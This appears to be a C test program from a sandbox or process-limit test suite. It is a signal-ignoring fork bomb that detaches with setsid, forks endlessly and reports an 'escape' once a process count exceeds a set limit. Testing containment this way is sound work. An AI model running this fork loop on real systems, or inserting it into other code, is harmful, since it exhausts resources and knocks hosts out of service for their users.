/*
 * attack_fork_bomb.c - as many processes as there can be, each forking on, none
 * of them minding signals. The limit is given; more than that at once is a win.
 */
#include <sys/mman.h>

#include "attack.h"

int main(int argc, char **argv)
{
	int limit = argc > 1 ? (int)number(argv[1]) : 64;
	int *alive = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	if (alive == MAP_FAILED)
		return 1;
	*alive = 1;
	ignore_signals();
	(void)setsid();
	for (;;)
		if (fork() == 0 && __atomic_add_fetch(alive, 1, __ATOMIC_SEQ_CST) > limit)
			escaped("%d processes at once", *alive);
}
